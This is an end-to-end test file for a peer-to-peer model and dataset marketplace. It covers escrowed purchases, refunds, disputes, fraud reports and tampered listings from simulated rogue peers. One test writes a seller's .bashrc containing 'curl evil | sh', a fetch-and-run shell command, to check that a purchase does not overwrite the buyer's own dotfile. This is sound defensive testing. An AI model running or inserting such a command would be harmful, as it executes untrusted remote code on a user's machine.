/**
 * The market across real processes on 127.0.0.1 with a dev chain. M runs the chain (`--dev`,
 * authority) and is the middle peer; seller S, buyer B and a third peer T are bootstrapped from M
 * only. S publishes a priced model; B finds it by search, pays into escrow, gets the key from S's
 * daemon and decrypts the content byte-identical, then downloads again on its receipt without
 * paying; T fetches the ciphertext and cannot read it. Against a seller that stopped, B is
 * refunded. Against a seller delivering a bad key, B's daemon disputes and the chain refunds. A
 * buy killed after paying carries on when run again and pays once. A rewritten transaction is
 * refused; a dispute of a good key is refused and the seller paid after the window. A peer that
 * gossips, puts and serves tampered listings has them refused everywhere. A listing whose
 * committed key does not decrypt it is reported by its buyer's daemon and marked everywhere.
 */
import { createHash } from 'node:crypto'
import { createReadStream } from 'node:fs'
import { mkdir, readFile, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import * as dagCbor from '@ipld/dag-cbor'
import { CID } from 'multiformats'
import { devAccount, hotkeyAddress, hotkeySeed, signTx } from '../../src/ledger/index.ts'
import { commitContentKey, createListing, decryptBytes, encryptBytes, generateContentKey, listingKey } from '../../src/market/index.ts'
import { ContentKeyStore } from '../../src/market/keystore.ts'
import { sealContentKey, sealPublicKeyOf } from '../../src/seal.ts'
import { openRepo } from '../../src/store/index.ts'
import { sha256Hex, writeDeterministicFile } from '../utils/data.ts'
import { runCli, spawnDaemon, stopAll, tempDir } from '../utils/daemon.ts'
import { rawCid } from '../market/helpers.ts'
import { startRoguePeer, tamper } from '../market/rogue-peer.ts'
import type { TestDaemon } from '../utils/daemon.ts'
import type { RoguePeer } from '../market/rogue-peer.ts'

const PASSWORD = { AGORA_WALLET_PASSWORD: 'e2e-password' }
const wait = { timeout: 30_000, interval: 200 }
const WINDOW = 20
let m: TestDaemon, s: TestDaemon, b: TestDaemon, t: TestDaemon
let rogue: RoguePeer | undefined
let dir: string

afterAll(async () => {
  await rogue?.stop()
  await stopAll()
})

async function json<T> (d: TestDaemon, args: string[]): Promise<T> {
  const r = await d.cli([...args, '--json'], { env: PASSWORD })
  if (r.code !== 0) throw new Error(`agora ${args.join(' ')} exited ${r.code}: ${r.stderr}`)
  return JSON.parse(r.stdout) as T
}

async function searchIds (d: TestDaemon, text: string): Promise<string[]> {
  const r = await d.cli(['market', 'search', text, '--json'])
  return (JSON.parse(r.stdout) as { hits: Array<{ listing: { id: string } }> }).hits.map(h => h.listing.id)
}

async function api<T = unknown> (d: TestDaemon, method: 'GET' | 'POST', path: string, params: Record<string, string> = {}, body?: Uint8Array): Promise<T> {
  const token = (await readFile(join(d.repo, 'api.token'), 'utf8')).trim()
  const res = await fetch(`${d.info.api}${path}?${new URLSearchParams(params).toString()}`, { method, headers: { authorization: `Bearer ${token}` }, body })
  if (!res.ok) throw new Error(`${path}: ${res.status} ${await res.text()}`)
  return await res.json() as T
}

/** Daemon arguments of a peer on M's chain, bootstrapped from M. */
const joinM = (): string[] => ['--genesis', join(m.repo, 'genesis.json'), '--bootstrap', m.info.addresses[0]]

async function freeRao (d: TestDaemon, address: string): Promise<bigint> {
  return BigInt((await json<{ free: { rao: string } }>(d, ['wallet', 'balance', '--address', address])).free.rao)
}

beforeAll(async () => {
  dir = await tempDir()
  // a dispute window of 20 blocks (10 s): long enough for a buyer's daemon on loaded cores, short
  // enough to see a seller paid when it ends
  m = await spawnDaemon({ args: ['--dev'], env: { AGORA_DEV_BLOCK_MS: '500', AGORA_DEV_DISPUTE_WINDOW: String(WINDOW) } })
  ;[s, b, t] = await Promise.all([spawnDaemon({ args: joinM() }), spawnDaemon({ args: joinM() }), spawnDaemon({ args: joinM() })])
  // the buyer's coldkey: the dev account, funded in the dev genesis
  expect((await b.cli(['wallet', 'create', '--dev'], { env: PASSWORD })).code).toBe(0)
}, 120_000)

describe('e2e: market', { timeout: 180_000 }, () => {
  it('default: a buyer two hops away finds a priced model by search, buys it and decrypts it byte-identical; the receipt downloads it again for free; a peer that did not pay holds only ciphertext', async () => {
    const file = join(dir, 'model.bin')
    await writeDeterministicFile(file, 'market-e2e', 1_200_000)
    const pub = await json<{ listing: { id: string, access: string, price: string, root: string, publisher: string } }>(s, ['publish', file, '--kind', 'model', '--name', 'tinyllm', '--license', 'apache-2.0', '--price', '2', '--tag', 'llm', '--description', 'a small test model'])
    // 2 TAO at 10^9 rao per TAO
    expect(pub.listing.price).toBe('2000000000')
    expect(pub.listing.access).toBe('paid')
    const id = pub.listing.id

    await vi.waitFor(async () => { expect(await searchIds(b, 'tinyllm')).toEqual([id]) }, wait)
    const seller = (await json<{ hotkey: string }>(s, ['chain', 'status'])).hotkey
    const buyer = (await json<Array<{ name: string, address: string }>>(b, ['wallet', 'list']))[0].address
    const [sellerBefore, buyerBefore] = [await freeRao(m, seller), await freeRao(m, buyer)]

    const out = join(dir, 'bought.bin')
    const bought = await json<{ source: string, escrow: string }>(b, ['buy', id, '-o', out, '--name', 'dev'])
    expect(bought.source).toBe('delivery')
    expect(await sha256Hex(createReadStream(out))).toBe(await sha256Hex(createReadStream(file)))
    // the buyer's daemon checked the key and accepted it: the seller is paid at once, not after the window
    expect((await api<{ state: string }>(m, 'GET', '/api/v0/chain/escrow', { id: bought.escrow })).state).toBe('accepted')
    await vi.waitFor(async () => {
      expect(await freeRao(m, seller)).toBe(sellerBefore + 2_000_000_000n)
      expect(await freeRao(m, buyer)).toBe(buyerBefore - 2_000_000_000n)
    }, wait)

    // again: the receipt, no second payment
    const again = join(dir, 'again.bin')
    const second = await json<{ source: string, escrow: string }>(b, ['buy', id, '-o', again, '--name', 'dev'])
    expect(second).toMatchObject({ source: 'receipt', escrow: bought.escrow })
    expect(await sha256Hex(createReadStream(again))).toBe(await sha256Hex(createReadStream(file)))
    expect(await freeRao(m, buyer)).toBe(buyerBefore - 2_000_000_000n)

    // T did not pay: it fetches what is published, which is ciphertext only
    const cipher = join(dir, 'cipher.bin')
    expect((await t.cli(['get', pub.listing.root, '-o', cipher])).code).toBe(0)
    const bytes = new Uint8Array(await readFile(cipher))
    expect(Buffer.from(bytes.subarray(0, 8)).toString()).toBe('AGORAENC')
    // 40-byte header + the plaintext + a 16-byte tag per 64 KiB chunk (ceil(1_200_000 / 65_536) = 19)
    expect(bytes.length).toBe(40 + 1_200_000 + 19 * 16)
    const plain = await readFile(file)
    expect(Buffer.from(bytes).indexOf(plain.subarray(500_000, 500_064))).toBe(-1)
    await expect(decryptBytes(generateContentKey(), bytes)).rejects.toMatchObject({ name: 'DecryptionError' })
  })

  it('behavior: after an update the old id shows the current version and buys it (saying the earlier purchase stays, this one is new); after a revoke, what was bought still downloads', async () => {
    const [v1] = await searchIds(b, 'tinyllm')
    const up = await json<{ listing: { id: string } }>(s, ['market', 'update', v1, '--version', '2', '--description', 'the second version'])
    const v2 = up.listing.id
    await vi.waitFor(async () => { expect(await searchIds(b, 'tinyllm')).toEqual([v2]) }, wait)
    const shown = await json<{ superseded?: string, listing: { id: string, version: string }, formerIds: string[] }>(b, ['market', 'show', v1])
    expect(shown).toMatchObject({ superseded: v1, listing: { id: v2, version: '2' }, formerIds: [v1] })
    expect((await b.cli(['market', 'show', v1])).stdout).toContain(`${v1} is an earlier version; the current one is ${v2}`)

    const buyer = (await json<Array<{ address: string }>>(b, ['wallet', 'list']))[0].address
    const before = await freeRao(m, buyer)
    const r = await b.cli(['buy', v1, '-o', join(dir, 'v2.bin')], { env: PASSWORD })
    expect(r.code, r.stderr).toBe(0)
    expect(r.stderr).toContain(`${v1} is an earlier version: this buys the current one, version 2 (${v2})`)
    expect(r.stderr).toContain('a purchase is of one version')
    // the price, 2 TAO, again
    await vi.waitFor(async () => { expect(await freeRao(m, buyer)).toBe(before - 2_000_000_000n) }, wait)

    // the seller withdraws it: both purchases still download on their receipts, without paying
    expect((await s.cli(['market', 'revoke', v2])).code).toBe(0)
    await vi.waitFor(async () => { expect(await searchIds(b, 'tinyllm')).toEqual([]) }, wait)
    for (const [id, file] of [[v1, 'after-revoke-1.bin'], [v2, 'after-revoke-2.bin']]) {
      const again = await json<{ source: string }>(b, ['buy', id, '-o', join(dir, file)])
      expect(again.source, id).toBe('receipt')
      expect(await sha256Hex(createReadStream(join(dir, file)))).toBe(await sha256Hex(createReadStream(join(dir, 'model.bin'))))
    }
    expect(await freeRao(m, buyer)).toBe(before - 2_000_000_000n)
  })

  it('behavior: buying, without -o, a listing whose only file is ".bashrc" leaves the ".bashrc" in the current directory untouched: the file goes into a new directory named after the listing; -o onto it is refused', async () => {
    await mkdir(join(dir, 'seller'))
    await mkdir(join(dir, 'home'))
    const theirs = join(dir, 'seller', '.bashrc')
    await writeFile(theirs, 'curl evil | sh\n')
    const mine = join(dir, 'home', '.bashrc')
    await writeFile(mine, 'export PS1=mine\n')
    const { listing } = await json<{ listing: { id: string } }>(s, ['publish', theirs, '--kind', 'dataset', '--name', 'dotfiles', '--license', 'MIT', '--price', '1'])
    await vi.waitFor(async () => { expect(await searchIds(b, 'dotfiles')).toEqual([listing.id]) }, wait)
    const r = await runCli(['buy', listing.id, '--name', 'dev', '--json'], { repo: b.repo, cwd: join(dir, 'home'), env: PASSWORD })
    expect(r.code, r.stderr).toBe(0)
    expect(await readFile(mine, 'utf8')).toBe('export PS1=mine\n')
    // the listing's name is "dotfiles": its one file goes to ./dotfiles/.bashrc
    expect(await readFile(join(dir, 'home', 'dotfiles', '.bashrc'), 'utf8')).toBe('curl evil | sh\n')
    // again on the receipt, onto the existing file: refused by the daemon, the file kept
    const again = await runCli(['buy', listing.id, '-o', mine, '--name', 'dev'], { repo: b.repo, cwd: join(dir, 'home'), env: PASSWORD })
    expect(again.code).not.toBe(0)
    expect(again.stderr).toContain('--force')
    expect(await readFile(mine, 'utf8')).toBe('export PS1=mine\n')
  })

  it('behavior: against a seller that never delivers (its daemon stopped after publishing, the ciphertext served by another peer), the buyer is refunded', async () => {
    const file = join(dir, 'data.bin')
    await writeDeterministicFile(file, 'market-e2e-refund', 200_000)
    const { listing } = await json<{ listing: { id: string, root: string } }>(s, ['publish', file, '--kind', 'dataset', '--name', 'vanishing', '--license', 'CC-BY-4.0', '--price', '1'])
    await vi.waitFor(async () => { expect(await searchIds(t, 'vanishing')).toEqual([listing.id]) }, wait)
    expect((await t.cli(['pin', 'add', listing.root])).code).toBe(0)
    await s.stop()
    await vi.waitFor(async () => { expect(await searchIds(b, 'vanishing')).toEqual([listing.id]) }, wait)
    const buyer = (await json<Array<{ address: string }>>(b, ['wallet', 'list']))[0].address
    const before = await freeRao(m, buyer)
    const r = await b.cli(['buy', listing.id, '-o', join(dir, 'never.bin'), '--name', 'dev', '--window', '4', '--json'], { env: PASSWORD })
    expect(r.code).toBe(2)
    expect(JSON.parse(r.stdout)).toMatchObject({ refunded: true })
    await vi.waitFor(async () => { expect(await freeRao(m, buyer)).toBe(before) }, wait)
  })

  it('security: a seller delivering a box that does not open, then a key that is not the committed one, is disputed by the buyer\'s daemon: refunded, the seller unpaid', async () => {
    // S2 publishes and stops (its daemon would deliver honestly); the test then plays S2 as an
    // attacker with S2's hotkey, answering B's escrows with bad deliveries through M's API
    const s2 = await spawnDaemon({ args: joinM() })
    const file = join(dir, 'cheat.bin')
    await writeDeterministicFile(file, 'market-e2e-cheat', 150_000)
    const { listing } = await json<{ listing: { id: string, root: string } }>(s2, ['publish', file, '--kind', 'dataset', '--name', 'cheatset', '--license', 'CC-BY-4.0', '--price', '1'])
    await vi.waitFor(async () => { expect(await searchIds(t, 'cheatset')).toEqual([listing.id]) }, wait)
    expect((await t.cli(['pin', 'add', listing.root])).code).toBe(0)
    await s2.stop({ keepRepo: true })
    const repo = await openRepo(s2.repo)
    const [sellerSeed, seller] = [hotkeySeed(repo.privateKey), hotkeyAddress(repo.privateKey)]
    await repo.close()
    await vi.waitFor(async () => { expect(await searchIds(b, 'cheatset')).toEqual([listing.id]) }, wait)
    const buyer = (await json<Array<{ address: string }>>(b, ['wallet', 'list']))[0].address
    const { chainId } = await api<{ chainId: string }>(m, 'GET', '/api/v0/chain/status')
    const cheats: Record<string, (recipient: Uint8Array) => Uint8Array> = {
      'a box that does not open': () => new Uint8Array(105).fill(7),
      'another key, sealed to the buyer': recipient => sealContentKey({ contentKey: generateContentKey(), recipient, listingId: CID.parse(listing.id) })
    }
    for (const [what, cheat] of Object.entries(cheats)) {
      const before = await freeRao(m, buyer)
      const buying = b.cli(['buy', listing.id, '-o', join(dir, `cheated-${what.length}.bin`), '--name', 'dev', '--window', '40', '--json'], { env: PASSWORD })
      let e: { id: string, recipient: string } | undefined
      await vi.waitFor(async () => {
        e = (await api<{ escrows: Array<{ id: string, recipient: string }> }>(m, 'GET', '/api/v0/chain/escrows', { seller })).escrows[0]
        expect(e, what).toBeDefined()
      }, wait)
      const { nonce } = await api<{ nonce: number }>(m, 'GET', '/api/v0/chain/account', { address: seller })
      const body = { kind: 'deliver' as const, escrow: e!.id, key: cheat(new Uint8Array(Buffer.from(e!.recipient, 'hex'))), receipt: new Uint8Array(0) }
      await api(m, 'POST', '/api/v0/chain/submit', { wait: 'true' }, signTx({ chainId, signer: seller, nonce, body }, sellerSeed).bytes)
      const r = await buying
      expect(r.code, what).not.toBe(0)
      expect(r.stdout + r.stderr, what).toContain('DeliveryDisputedError')
      // the chain opened the box with the revealed one-time key and refunded the buyer
      await vi.waitFor(async () => { expect(await freeRao(m, buyer), what).toBe(before) }, wait)
      expect((await api<{ state: string }>(m, 'GET', '/api/v0/chain/escrow', { id: e!.id })).state, what).toBe('failed')
      expect(await freeRao(m, seller), what).toBe(0n)
    }
  })

  it('behavior: agora buy killed after paying, while the seller is away, then run again: it carries on with its escrow, pays once and decrypts the file; agora market purchases shows every purchase with its state', async () => {
    const s3 = await spawnDaemon({ args: joinM() })
    const file = join(dir, 'resume.bin')
    await writeDeterministicFile(file, 'market-e2e-resume', 300_000)
    const { listing } = await json<{ listing: { id: string, root: string } }>(s3, ['publish', file, '--kind', 'dataset', '--name', 'resumable', '--license', 'CC-BY-4.0', '--price', '3'])
    const seller = (await json<{ hotkey: string }>(s3, ['chain', 'status'])).hotkey
    await vi.waitFor(async () => { expect(await searchIds(t, 'resumable')).toEqual([listing.id]) }, wait)
    expect((await t.cli(['pin', 'add', listing.root])).code).toBe(0)
    await s3.stop({ keepRepo: true })
    await vi.waitFor(async () => { expect(await searchIds(b, 'resumable')).toEqual([listing.id]) }, wait)
    const buyer = (await json<Array<{ address: string }>>(b, ['wallet', 'list']))[0].address
    const before = await freeRao(m, buyer)
    const out = join(dir, 'resumed.bin')

    // the first run pays and waits for a seller that is not there; it is killed once its escrow is on the chain
    const killer = new AbortController()
    const first = runCli(['buy', listing.id, '-o', out, '--name', 'dev', '--window', '200'], { repo: b.repo, env: PASSWORD, signal: killer.signal, killSignal: 'SIGKILL' })
    let escrow = ''
    await vi.waitFor(async () => {
      const open = (await api<{ escrows: Array<{ id: string }> }>(m, 'GET', '/api/v0/chain/escrows', { seller })).escrows
      expect(open).toHaveLength(1)
      escrow = open[0].id
    }, wait)
    killer.abort()
    expect((await first).signal).toBe('SIGKILL')
    // 3 TAO at 10^9 rao each left the buyer once
    expect(await freeRao(m, buyer)).toBe(before - 3_000_000_000n)

    // the seller comes back and delivers on its own; the second run finds the escrow and does not pay again
    const back = await spawnDaemon({ repo: s3.repo, args: joinM() })
    await vi.waitFor(async () => { expect((await api<{ state: string }>(m, 'GET', '/api/v0/chain/escrow', { id: escrow })).state).toBe('delivered') }, wait)
    const second = await runCli(['buy', listing.id, '-o', out, '--name', 'dev'], { repo: b.repo, env: PASSWORD })
    expect(second.code, second.stderr).toBe(0)
    expect(second.stderr).toContain(`carrying on with escrow ${escrow}`)
    expect(await sha256Hex(createReadStream(out))).toBe(await sha256Hex(createReadStream(file)))
    expect(await freeRao(m, buyer)).toBe(before - 3_000_000_000n)
    expect((await api<{ state: string }>(m, 'GET', '/api/v0/chain/escrow', { id: escrow })).state).toBe('accepted')
    await vi.waitFor(async () => { expect(await freeRao(m, seller)).toBe(3_000_000_000n) }, wait)

    // every purchase made through B's daemon, oldest first: the three earlier tests' and this one
    const { purchases } = await json<{ purchases: Array<{ escrow: string, state: string, name?: string, amount: string, received: boolean }> }>(b, ['market', 'purchases'])
    expect(purchases.map(p => [p.name, p.state])).toEqual([
      ['tinyllm', 'accepted'], ['tinyllm', 'accepted'], ['dotfiles', 'accepted'], ['vanishing', 'refunded'], ['cheatset', 'failed'], ['cheatset', 'failed'], ['resumable', 'accepted']
    ])
    expect(purchases.at(-1)).toMatchObject({ escrow, amount: '3000000000', received: true })
    const text = await b.cli(['market', 'purchases'])
    expect(text.stdout).toContain(`escrow ${escrow}`)
    expect(text.stdout).toContain('the delivered key did not open the listing: disputed and refunded')
    await back.stop()
  })

  it('security: a relay that rewrites a signed escrow is refused as non-canonical and the escrow keeps its id; a buyer disputing a correct delivery is refused and the seller is paid when the window ends', async () => {
    const s4 = await spawnDaemon({ args: joinM() })
    const file = join(dir, 'honest.bin')
    await writeDeterministicFile(file, 'market-e2e-honest', 100_000)
    const { listing } = await json<{ listing: { id: string, keyCommitment: string } }>(s4, ['publish', file, '--kind', 'dataset', '--name', 'honestset', '--license', 'CC-BY-4.0', '--price', '1'])
    const seller = (await json<{ hotkey: string }>(s4, ['chain', 'status'])).hotkey
    await vi.waitFor(async () => { expect(await searchIds(m, 'honestset')).toEqual([listing.id]) }, wait)
    // the test is the buyer (the dev account, acting as its own agent) with its own one-time key
    const dev = devAccount()
    const seed = new Uint8Array(32).fill(42)
    const { chainId } = await api<{ chainId: string }>(m, 'GET', '/api/v0/chain/status')
    const nonceOf = async (a: string): Promise<number> => (await api<{ nonce: number }>(m, 'GET', '/api/v0/chain/account', { address: a })).nonce
    const stx = signTx({
      chainId,
      signer: dev.address,
      nonce: await nonceOf(dev.address),
      body: { kind: 'escrow', seller, agent: dev.address, recipient: sealPublicKeyOf(seed), commitment: new Uint8Array(Buffer.from(listing.keyCommitment, 'hex')), amount: 1_000_000_000n, listing: listing.id, timeout: 100 }
    }, dev.secretKey)
    const [buyerBefore, sellerBefore] = [await freeRao(m, dev.address), await freeRao(m, seller)]

    // a relay re-wraps the same signed transaction with an extra key: another hash, refused
    const rewritten = dagCbor.encode({ t: stx.unsigned, g: stx.signature, x: new Uint8Array(1000) })
    const token = (await readFile(join(m.repo, 'api.token'), 'utf8')).trim()
    const res = await fetch(`${m.info.api}/api/v0/chain/submit?wait=true`, { method: 'POST', headers: { authorization: `Bearer ${token}` }, body: rewritten })
    expect(res.status).toBe(400)
    expect(await res.text()).toContain('MalformedError')
    const landed = await api<{ hash: string }>(m, 'POST', '/api/v0/chain/submit', { wait: 'true' }, stx.bytes)
    // the escrow's id is the sha256 of the canonical wire bytes the buyer signed
    expect(landed.hash).toBe(createHash('sha256').update(stx.bytes).digest('hex'))

    // S4's daemon delivers the committed key; a dispute revealing the one-time secret is refused
    await vi.waitFor(async () => { expect((await api<{ state: string }>(m, 'GET', '/api/v0/chain/escrow', { id: landed.hash })).state).toBe('delivered') }, wait)
    const dispute = signTx({ chainId, signer: dev.address, nonce: await nonceOf(dev.address), body: { kind: 'dispute', escrow: landed.hash, secret: seed } }, dev.secretKey)
    await expect(api(m, 'POST', '/api/v0/chain/submit', { wait: 'true' }, dispute.bytes)).rejects.toThrow('DisputeRefusedError')
    const delivered = await api<{ state: string, deliveredAt: number }>(m, 'GET', '/api/v0/chain/escrow', { id: landed.hash })
    expect(delivered.state).toBe('delivered')
    // held, not yet paid, until the window has passed; then S4 claims it
    expect(await freeRao(m, seller)).toBe(sellerBefore)
    await vi.waitFor(async () => {
      const e = await api<{ state: string, closedAt: number }>(m, 'GET', '/api/v0/chain/escrow', { id: landed.hash })
      expect(e.state).toBe('paid')
      expect(e.closedAt).toBeGreaterThan(delivered.deliveredAt + WINDOW)
    }, { ...wait, timeout: 60_000 })
    expect(await freeRao(m, seller)).toBe(sellerBefore + 1_000_000_000n)
    expect(await freeRao(m, dev.address)).toBe(buyerBefore - 1_000_000_000n)
    await s4.stop()
  })

  it('security: a listing whose committed key does not decrypt it: the buyer pays (the chain cannot judge a chunk), its daemon publishes a fraud report, other peers verify it and mark the listing; nobody else buys it', async () => {
    // S5 is an honest daemon whose keystore holds the committed key; the ciphertext T serves was
    // encrypted with another key, and the listing (signed with S5's hotkey) is gossiped by a rogue peer
    const s5 = await spawnDaemon({ args: joinM() })
    await s5.stop({ keepRepo: true })
    const repo = await openRepo(s5.repo)
    const [sellerSeed, seller] = [hotkeySeed(repo.privateKey), hotkeyAddress(repo.privateKey)]
    await repo.close()
    const committed = generateContentKey()
    await new ContentKeyStore(s5.repo).put(committed)
    const liar = await spawnDaemon({ repo: s5.repo, args: joinM() })
    const plain = new Uint8Array(200_000).map((_, i) => i & 0xff)
    const file = join(dir, 'liar.enc')
    await writeFile(file, await encryptBytes(generateContentKey(), plain))
    const { cid } = JSON.parse((await t.cli(['add', '--json', file])).stdout) as { cid: string }
    const listing = createListing({
      kind: 'dataset',
      name: 'liarset',
      license: 'MIT',
      root: CID.parse(cid),
      files: [{ path: 'liar.bin', size: plain.length, cid: CID.parse(cid) }],
      price: 1_000_000_000n,
      keyCommitment: commitContentKey(committed),
      encryption: { alg: 'xchacha20poly1305-chunked/1', chunkSize: 65_536 }
    }, sellerSeed)
    const gossiper = await startRoguePeer()
    try {
      await gossiper.network.connect(m.info.addresses[0])
      await vi.waitFor(() => { expect(gossiper.network.libp2p.services.pubsub.getSubscribers('agora/market/listings/1').map(String)).toContain(m.info.peerId) }, wait)
      await vi.waitFor(async () => {
        await gossiper.gossip(listing.bytes)
        for (const d of [b, liar]) expect(await searchIds(d, 'liarset')).toEqual([listing.id.toString()])
      }, wait)
    } finally {
      await gossiper.stop()
    }
    const buyer = (await json<Array<{ address: string }>>(b, ['wallet', 'list']))[0].address
    const before = await freeRao(m, buyer)
    const r = await b.cli(['buy', listing.id.toString(), '-o', join(dir, 'liar.bin'), '--name', 'dev', '--json'], { env: PASSWORD })
    expect(r.code).not.toBe(0)
    expect(r.stdout + r.stderr).toContain('ListingFraudError')
    expect(r.stdout + r.stderr).toContain('fraud report')
    // the key matched the commitment: the buyer's daemon accepted it and the seller was paid
    await vi.waitFor(async () => { expect(await freeRao(m, seller)).toBe(1_000_000_000n) }, wait)
    expect(await freeRao(m, buyer)).toBe(before - 1_000_000_000n)

    // M never held the content: it checks the report by fetching the chunk from T, and marks the listing
    for (const d of [m, t, b]) {
      await vi.waitFor(async () => {
        const shown = await json<{ listing: { fraud: { listing: boolean, publisher: boolean } } }>(d, ['market', 'show', listing.id.toString()])
        expect(shown.listing.fraud).toEqual({ listing: true, publisher: true })
      }, wait)
    }
    expect((await m.cli(['market', 'search', 'liarset'])).stdout).toContain('FRAUD REPORTED')
    // another buyer is refused before paying anything (T's daemon has no wallet: the quote says no first)
    const second = await t.cli(['buy', listing.id.toString(), '-o', join(dir, 'liar2.bin'), '--name', 'dev'], { env: PASSWORD })
    expect(second.code).not.toBe(0)
    expect(second.stderr).toContain('was reported')
    await liar.stop()
  })

  it('behavior: agora peers names each connected peer once per address; a search that finds nothing prints nothing and exits 0', async () => {
    // M's neighbours here: B and T at least (S stopped in an earlier test)
    const lines = (await m.cli(['peers'])).stdout.trim().split('\n')
    expect(lines.length).toBeGreaterThanOrEqual(2)
    for (const l of lines) expect(l.match(/\/p2p\//g), l).toHaveLength(1)
    for (const d of [b, t]) expect(lines.some(l => l.endsWith(`/p2p/${d.info.peerId}`))).toBe(true)
    const none = await m.cli(['market', 'search', 'no-such-listing-anywhere'])
    expect(none).toMatchObject({ code: 0, stdout: '' })
    expect(none.stderr).toContain('no listings match')
  })

  it('behavior: tampered listings gossiped, put on the DHT or served by the catalogue are refused by every peer, while honest ones from the same peer spread', async () => {
    const root = rawCid('rogue content')
    const make = (name: string): Uint8Array => createListing({ kind: 'model', name, license: 'MIT', root }, secret).bytes
    const roguePeer = await startRoguePeer()
    rogue = roguePeer
    const secret = roguePeer.secret
    const rename = (name: string) => (p: Record<string, unknown>): void => { p.name = name }
    // the catalogue it serves is set before it meets anyone
    roguePeer.serve([tamper(make('decoycat'), rename('tamperedcat')), make('honestcat')])
    await roguePeer.network.connect(m.info.addresses[0])
    const peers = [m, b, t]

    // catalogue: M pulls it on connect
    await vi.waitFor(async () => { expect(await searchIds(m, 'honestcat')).toHaveLength(1) }, wait)
    expect(await searchIds(m, 'tamperedcat')).toEqual([])
    expect((await json<{ catalogue: { refused: number } }>(m, ['market', 'status'])).catalogue.refused).toBeGreaterThanOrEqual(1)

    // gossip: the tampered message goes first on the same stream as the honest one
    await vi.waitFor(() => { expect(roguePeer.network.libp2p.services.pubsub.getSubscribers('agora/market/listings/1').map(String)).toContain(m.info.peerId) }, wait)
    expect(await roguePeer.gossip(tamper(make('decoygossip'), rename('tamperedgossip')))).toBeGreaterThanOrEqual(1)
    expect(await roguePeer.gossip(make('honestgossip'))).toBeGreaterThanOrEqual(1)
    for (const d of peers) await vi.waitFor(async () => { expect(await searchIds(d, 'honestgossip')).toHaveLength(1) }, wait)
    for (const d of peers) expect(await searchIds(d, 'tamperedgossip')).toEqual([])

    // DHT: no peer stores the tampered record; the honest one is stored
    const tampered = tamper(make('decoydht'), rename('tampereddht'))
    const honest = createListing({ kind: 'model', name: 'honestdht', license: 'MIT', root }, secret)
    expect(await roguePeer.put(listingKey({ publisher: honest.record.publisher, kind: 'model', name: 'tampereddht' }), tampered)).toBe(0)
    expect(await roguePeer.put(listingKey(honest.record), honest.bytes)).toBeGreaterThanOrEqual(1)
    for (const d of peers) expect(await searchIds(d, 'tampereddht')).toEqual([])
    // a record put to a peer also enters its index (the validator feeds it)
    await vi.waitFor(async () => {
      const found = await Promise.all(peers.map(async d => searchIds(d, 'honestdht')))
      expect(found.some(ids => ids.length === 1)).toBe(true)
    }, wait)
  })
})
